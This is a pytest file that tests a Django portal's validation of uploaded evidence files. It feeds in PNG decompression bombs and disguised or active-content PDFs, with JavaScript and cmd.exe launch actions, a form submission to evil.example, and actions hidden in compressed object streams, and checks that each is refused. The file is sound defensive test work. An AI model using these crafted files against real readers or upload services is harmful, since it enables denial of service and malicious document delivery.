"""Issue 20: evidence files are measured before they are decoded (point 8) and PDFs are checked
beyond their header and end marker (point 12)."""

from __future__ import annotations

import io
import struct
import time
import zlib
from unittest import mock

import pypdf
import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import translation
from PIL import Image

from complaints.models import Complaint
from coop_portal.evidence import MAX_PDF_OBJECTS, MAX_PIXELS, check_file, check_files, check_pdf
from tests.complaints.factories import PDF, form_data, image_bytes, pdf_document, upload


def png_header(width: int, height: int) -> bytes:
    """A PNG that announces these dimensions: a few dozen bytes that would decode into
    width × height × 3 bytes of pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + body))
        return struct.pack(">I", len(body)) + kind + body + crc

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def messages_of(error: ValidationError) -> str:
    return " ".join(error.messages)


@pytest.fixture
def decoded():
    """Counts the images Pillow decodes."""
    with mock.patch.object(
        Image.Image, "load", autospec=True, side_effect=Image.Image.load
    ) as load:
        yield load


def test_five_large_images_are_refused_before_any_is_decoded(decoded):
    """The attack: five 6300 × 6300 PNGs took 10 s of a web worker's CPU."""
    uploads = [upload(f"big{n}.png", png_header(6300, 6300), "image/png") for n in range(5)]
    started = time.perf_counter()
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        check_files(uploads)
    assert time.perf_counter() - started < 0.5
    assert decoded.call_count == 0
    assert "Together your photos have 198 megapixels" in messages_of(refused.value)
    assert "at most 60 megapixels" in messages_of(refused.value)


def test_one_image_above_forty_megapixels_is_refused_with_its_size_in_both_languages(decoded):
    too_big = upload("wall.png", png_header(8000, 6000), "image/png")
    with translation.override("en"), pytest.raises(ValidationError) as english:
        check_file(too_big)
    assert "8000 × 6000 pixels (48 megapixels)" in messages_of(english.value)
    assert "at most 40 megapixels" in messages_of(english.value)
    with translation.override("zh-hans"), pytest.raises(ValidationError) as chinese:
        check_file(too_big)
    assert "8000 × 6000" in messages_of(chinese.value)
    assert "40" in messages_of(chinese.value)
    assert "像素" in messages_of(chinese.value)
    assert decoded.call_count == 0


def test_a_decompression_bomb_beyond_pillows_own_limit_is_refused_clearly(decoded):
    bomb = upload("bomb.png", png_header(60000, 60000), "image/png")
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        check_file(bomb)
    assert "far too many pixels" in messages_of(refused.value)
    assert decoded.call_count == 0


def test_ordinary_phone_photos_pass(decoded):
    photos = [upload(f"p{n}.jpg", image_bytes("JPEG", size=(400, 300))) for n in range(5)]
    assert len(check_files(photos)) == 5
    assert MAX_PIXELS >= 12_000_000 * 3


def test_the_complaint_form_refuses_the_large_images_and_stores_nothing(client, coop, member_a):
    files = [upload(f"big{n}.png", png_header(6300, 6300), "image/png") for n in range(5)]
    response = client.post(
        reverse("complaints:file", args=[coop.slug]),
        {**form_data(member_a), "evidence": files},
        headers={"accept-language": "en"},
    )
    assert response.status_code == 200
    assert "megapixels" in response.content.decode()
    assert not Complaint.objects.exists()


# PDFs ------------------------------------------------------------------------------------------


def test_a_real_pdf_passes():
    check_pdf(PDF, "receipt.pdf")
    assert len(pypdf.PdfReader(io.BytesIO(PDF)).pages) == 1


def test_a_pdf_written_by_a_pdf_library_passes():
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    written = io.BytesIO()
    writer.write(written)
    check_pdf(written.getvalue(), "receipt.pdf")


@pytest.mark.parametrize(
    "disguised",
    [
        # The attack: the header and the end marker were all that was checked.
        b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n",
        b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n",
        # startxref pointing outside the file, or at something that is no cross-reference.
        PDF.replace(b"startxref\n186", b"startxref\n999999"),
        PDF.replace(b"startxref\n186", b"startxref\n20"),
        # An object left open.
        pdf_document(b"<< /Type /Catalog >>").replace(b"endobj", b"", 1),
        # No document root.
        pdf_document(b"<< /Type /Catalog >>", trailer=b""),
    ],
)
def test_a_file_with_a_pdfs_header_and_end_but_not_its_structure_is_refused(disguised):
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        check_pdf(disguised, "receipt.pdf")
    assert "receipt.pdf" in messages_of(refused.value)


def test_a_truncated_pdf_is_refused_as_incomplete():
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        check_pdf(PDF[:-40], "receipt.pdf")
    assert "not a complete PDF document" in messages_of(refused.value)


@pytest.mark.parametrize(
    "active",
    [
        b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        b"<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>",
        b"<< /Type /Catalog /Names << /EmbeddedFiles 2 0 R >> >>",
        # A name spelled with escapes is the same name.
        b"<< /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
    ],
)
def test_a_pdf_with_scripts_launches_or_attachments_is_refused_in_both_languages(active):
    document = pdf_document(active)
    with translation.override("en"), pytest.raises(ValidationError) as english:
        check_pdf(document, "receipt.pdf")
    assert "active content" in messages_of(english.value)
    with translation.override("zh-hans"), pytest.raises(ValidationError) as chinese:
        check_pdf(document, "receipt.pdf")
    assert "receipt.pdf" in messages_of(chinese.value)
    assert messages_of(chinese.value) != messages_of(english.value)


def test_an_encrypted_pdf_is_refused():
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret")
    written = io.BytesIO()
    writer.write(written)
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        check_pdf(written.getvalue(), "receipt.pdf")
    assert "password" in messages_of(refused.value)


def test_a_script_inside_a_stream_is_not_taken_for_active_content():
    """The words of a page (in a content stream) may say anything."""
    page_text = b"BT /F1 12 Tf (/JavaScript /Launch) Tj ET"
    document = pdf_document(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(page_text), page_text),
    )
    check_pdf(document, "receipt.pdf")


def objects_in_an_object_stream(action: bytes, *, declared: int = 1) -> bytes:
    """A PDF whose catalog opens with object 4, an action kept compressed in an object stream
    (PDF 1.5), with a cross-reference stream saying where it is: the pentest's objstm.pdf
    (/tmp/atk/mkpdf.py), with the action as a parameter; ``declared`` is the count of objects
    the stream says it holds."""
    document = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(document)
        document.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    add(1, b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>")
    add(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    add(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>")
    header = b"4 0 "
    packed = zlib.compress(header + action)
    add(
        5,
        b"<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
        % (declared, len(header), len(packed), packed),
    )
    xref_at = len(document)
    rows = struct.pack(">BIH", 0, 0, 65535)
    rows += b"".join(struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3))
    rows += struct.pack(">BIH", 2, 5, 0) + struct.pack(">BIH", 1, offsets[5], 0)
    rows += struct.pack(">BIH", 1, xref_at, 0)
    packed_rows = zlib.compress(rows)
    document.extend(
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (len(packed_rows), packed_rows, xref_at)
    )
    return bytes(document)


@pytest.mark.parametrize(
    "action",
    [
        b"<</S/JavaScript/JS(app.alert\\('pwned'\\))>>",
        b"<</S/Launch/F(cmd.exe)>>",
        b"<</S/SubmitForm/F(http://evil.example/)>>",
        b"<</S/GoToR/F(other.pdf)/D[0/Fit]>>",
        b"<</S/GoToE/D[0/Fit]>>",
        b"<</S/ImportData/F(data.fdf)>>",
    ],
)
def test_active_content_compressed_in_an_object_stream_is_refused(action):
    """The attack of finding F1: the action sat in a Flate-compressed object stream, which the
    byte patterns never saw."""
    document = objects_in_an_object_stream(action)
    assert pypdf.PdfReader(io.BytesIO(document)).trailer["/Root"]["/OpenAction"]["/S"]
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        check_pdf(document, "invoice.pdf")
    assert "active content" in messages_of(refused.value)


def test_an_open_action_that_only_says_where_to_open_passes():
    document = pdf_document(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    )
    check_pdf(document, "receipt.pdf")


def test_an_object_stream_without_active_content_passes():
    """Compressed objects as such are fine: here the opening place, page 1 fitted."""
    check_pdf(objects_in_an_object_stream(b"[3 0 R/Fit]"), "receipt.pdf")


@pytest.mark.parametrize(
    "active",
    [
        b"<< /Type /Catalog /AA << /O 2 0 R >> >>",
        b"<< /Type /Catalog /AcroForm << /XFA (x) >> >>",
        b"<< /Type /Annot /Subtype /RichMedia >>",
        b"<< /Type /EmbeddedFile /Length 0 >>",
    ],
)
def test_automatic_actions_xfa_multimedia_and_attached_files_are_refused(active):
    document = pdf_document(
        b"<< /Type /Catalog /Pages 3 0 R /Extra 2 0 R >>",
        active,
        b"<< /Type /Pages /Kids [] /Count 0 >>",
    )
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        check_pdf(document, "receipt.pdf")
    assert "active content" in messages_of(refused.value)


def test_a_pdf_that_pypdf_cannot_read_is_refused_as_damaged_in_both_languages():
    # Well formed on the outside, but the root is no dictionary and the page tree is missing.
    document = pdf_document(b"(just a string)")
    with translation.override("en"), pytest.raises(ValidationError) as english:
        check_pdf(document, "receipt.pdf")
    assert "damaged" in messages_of(english.value)
    with translation.override("zh-hans"), pytest.raises(ValidationError) as chinese:
        check_pdf(document, "receipt.pdf")
    assert messages_of(chinese.value) != messages_of(english.value)


@pytest.mark.parametrize(
    "document",
    [
        # More objects than any receipt: pypdf would parse them all at a few seconds a 100,000.
        pdf_document(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            *[b"<< /A %d >>" % n for n in range(MAX_PDF_OBJECTS)],
        ),
        # An object stream that says it holds a million.
        objects_in_an_object_stream(b"[3 0 R/Fit]", declared=1_000_000),
    ],
)
def test_a_pdf_with_far_too_many_objects_is_refused_before_they_are_parsed(document):
    started = time.perf_counter()
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        check_pdf(document, "receipt.pdf")
    assert "far too complex" in messages_of(refused.value)
    assert time.perf_counter() - started < 1
